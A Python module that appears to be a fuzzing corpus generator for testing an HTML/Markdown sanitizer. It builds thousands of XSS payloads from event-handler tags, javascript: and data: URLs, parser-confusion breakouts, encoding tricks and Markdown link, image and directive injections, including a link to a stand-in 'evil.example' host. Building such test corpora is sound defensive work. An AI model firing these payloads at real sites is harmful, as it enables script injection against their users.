"""Hostile markup by grammar: what runs it x how it is written x what it breaks out of, and Markdown's own ways."""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import islice, product

# What somebody wants to run. Each calls one of the hooks of the oracle.
CALLS = (
    "alert(1)",
    "alert`1`",
    "confirm(1)",
    "prompt(1)",
    "print()",
    "open('x')",
    "self['al'+'ert'](1)",
    "(alert)(1)",
    "[1].find(alert)",
    "eval('ale'+'rt(1)')",
    "Function('alert(1)')()",
    "setTimeout('alert(1)')",
    "top.constructor.constructor('alert(1)')()",
    "&#97;lert(1)",
    "&#x61;&#x6c;ert&lpar;1&rpar;",
    "\\u0061lert(1)",
)
# Tags with an event that needs nobody, then with events that need somebody.
TAGS = (
    ("img", "src=x", "onerror"),
    ("img", "src=x:x", "onerror"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("svg", "width=1", "onload"),
    ("video", "src=x", "onerror"),
    ("video", "", "onloadstart"),
    ("audio", "src=x", "onerror"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("iframe", "", "onload"),
    ("iframe", "src=about:blank", "onload"),
    ("object", "data=x:x", "onerror"),
    ("embed", "src=x", "onload"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("a", "tabindex=1 autofocus href=#", "onfocus"),
    ("p", "contenteditable autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("script", "src=x", "onerror"),
    ("marquee", "", "onstart"),
    ("xss", "id=x tabindex=1 autofocus", "onfocus"),
    ("p", "style=animation-name:x", "onanimationstart"),
    ("dialog", "open", "onclose"),
    ("a", "href=#", "onclick"),
    ("b", "", "onmouseover"),
    ("div", "", "onpointerenter"),
    ("form", "", "onsubmit"),
    ("button", "popovertarget=x", "onbeforetoggle"),
    ("table", "background=x", "onwheel"),
    ("td", "", "onauxclick"),
    ("textarea", "", "oninput"),
    ("math", "href=#", "onclick"),
    ("h1", "", "oncopy"),
    ("blockquote", "", "ontouchstart"),
)
BETWEEN = (" ", "/", "\t", "\n", "\f", " / ", '/"x"/')
QUOTES = ("", '"', "'")
CASES = (str.lower, str.upper, str.title, str.swapcase)

# Whole pieces around a call.
PIECES = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT >",
    "<script/x>{}</script\n>",
    "<script>/*<!--*/{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '<script src="data:text/javascript,{}"></script>',
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:,{}' /></svg>",
    "<svg><set onbegin='{}' attributeName=x></svg>",
    "<svg><animate onbegin='{}' attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:{}' /><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror='{}'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<math><a xlink:href='javascript:{}'>x</a></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{}'>x</maction></math>",
    "<a href='javascript:{}'>x</a>",
    "<a href=' \x01javascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href='java&#10;script&colon;{}'>x</a>",
    "<a href='JaVaScRiPt:{}'>x</a>",
    "<a href='javascript://%0a{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<a href='vbscript:{}'>x</a>",
    "<area href='javascript:{}'>",
    "<iframe src='javascript:{}'></iframe>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror={}&gt;"></iframe>',
    "<iframe src='data:text/html,<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='javascript:{}'>",
    "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload={}>'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<input type=image src=x formaction='javascript:{}'>",
    "<isindex action='javascript:{}' type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{}</script>'>",
    "<base href='javascript:{}//'>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<style>@import 'javascript:{}';</style>",
    "<div style='background:url(javascript:{})'>x</div>",
    "<div style='width:expression({})'>x</div>",
    "<template><img src=x onerror='{}'></template><img src=x onerror='{}'>",
    "<xml:namespace prefix=t><img src=x onerror='{}'>",
    "<applet code='javascript:{}'></applet>",
    "<frameset onload='{}'>",
    "<keygen autofocus onfocus='{}'>",
    "<portal src='javascript:{}'></portal>",
    "<dialog open onclose='{}'><form method=dialog><button autofocus>x</button></form></dialog>",
    "<input type=hidden oncontentvisibilityautostatechange='{}' style=content-visibility:auto>",
)
# What stands before it: ways out of an attribute, an element, a comment; what parsers read in two ways.
BREAKOUTS = (
    "",
    '">',
    "'>",
    "-->",
    "--!>",
    "]]>",
    "</p>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</xmp>",
    "<!-->",
    "<!--><!--",
    "<![CDATA[",
    "<?x ",
    "<!DOCTYPE x [<!ENTITY x 'y'>]>",
    '<noscript><p title="</noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="-->',
    '<svg><style><!--</style><p id="--></style>',
    "<form><math><mtext></form><form><mglyph><style></math>",
    '<svg></p><style><a id="</style>',
    '<math><annotation-xml encoding="text/html"><style>',
    "<select><template><style><!--</style>",
    "<table><td><svg><desc>",
    "<b <i ",
    "\x00",
    "<\x00",
    "\ufeff",
    "<a<!-- -->",
)
# Markdown's own doors; `{}` is a call, `{html}` hostile HTML.
MARKDOWN = (
    "[x](javascript:{})",
    "[x](<javascript:{}>)",
    "[x](java&Tab;script:{})",
    "[x](javascript&colon;{})",
    "[x](JAVASCRIPT&#58;{})",
    "[x](&#x6A;avascript:{})",
    "[x](\\javascript:{})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== '{}')",
    "[x](vbscript:{})",
    "[x](file:///etc/passwd '{}')",
    "[x](//evil.example/{})",
    "[x](https://example.org/ \"' onmouseover='{}' x='\")",
    "[x](https://example.org/'onmouseover='{})",
    "[x](https://[::1]/{})",
    "![x](javascript:{})",
    "![x' onerror='{}](x)",
    '![x" onerror="{}](picture.png)',
    "<javascript:{}>",
    "<javascript&colon;{}>",
    "[x]\n\n[x]: javascript:{}",
    "[x][y]\n\n[y]: <javascript:{}> 'title'",
    "[{html}](https://example.org)",
    "[x](https://example.org/{html})",
    "`{html}`",
    "```{html}\n{html}\n```",
    "    {html}",
    "# {html} {{#x}}",
    '## Heading {{#x" onmouseover="{}}}',
    "> {html}",
    "* {html}\n* {html}",
    "| a | b |\n| -: | - |\n| {html} | {} |",
    "::: heads-up {html}\n{html}\n:::",
    '::: note "><img src=x onerror={}>\nwords\n:::',
    "::: quote\nwords\n-- {html}\n:::",
    "::: try #field {html}\n{html}\n:::",
    '::: try #x"onfocus="{}"autofocus=" Label\nwords\n:::',
    "*{html}*",
    "~~{html}~~",
    "\\{html}",
    "&lt;script&gt;{}&lt;/script&gt; {html}",
    "<div>\n\n{html}\n\n</div>",
    "<!-- {html} -->",
    "[a](https://example.org){html}",
    "\n{html}\n===\n",
)


def tags() -> Iterator[str]:
    """An element with an event, written in every way."""
    for (tag, more, event), call, gap, quote, case in product(TAGS, CALLS, BETWEEN, QUOTES, CASES):
        if quote == "" and any(letter in call for letter in "' `"):
            continue
        js = call.replace("'", "&#39;") if quote == "'" else call
        parts = [f"<{case(tag)}", *([more] if more else []), f"{case(event)}={quote}{js}{quote}"]
        yield gap.join(parts) + ">"


def pieces() -> Iterator[str]:
    """Every piece with every call, after every way out."""
    for out, piece, call in product(BREAKOUTS, PIECES, CALLS):
        yield out + piece.replace("{}", call)


def broken_out() -> Iterator[str]:
    """Elements with events after every way out."""
    for out, (tag, more, event), call in product(BREAKOUTS[1:], TAGS, CALLS[:6]):
        yield f'{out}<{tag} {more} {event}="{call}">'


def in_markdown() -> Iterator[str]:
    """Markdown's own doors."""
    simple = ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg/onload=alert(1)>")
    for door, call, markup in product(MARKDOWN, CALLS, simple):
        filled = door.replace("{html}", markup).replace("{{", "{").replace("}}", "}")
        yield filled.replace("{}", call)


def some(wanted: int, seed: int = 0) -> list[str]:
    """So many different ones, of every kind about as many."""
    chosen = random.Random(seed)
    kinds = [list(dict.fromkeys(kind())) for kind in (tags, pieces, broken_out, in_markdown)]
    for kind in kinds:
        chosen.shuffle(kind)
    turns = (one for row in zip(*(_endless(kind) for kind in kinds), strict=False) for one in row)
    distinct = dict.fromkeys(islice(turns, wanted * 4))
    return list(distinct)[:wanted]


def _endless(kind: list[str]) -> Iterator[str]:
    # A kind that has run out gives its places to the others: what repeats is dropped afterwards.
    while True:
        yield from kind
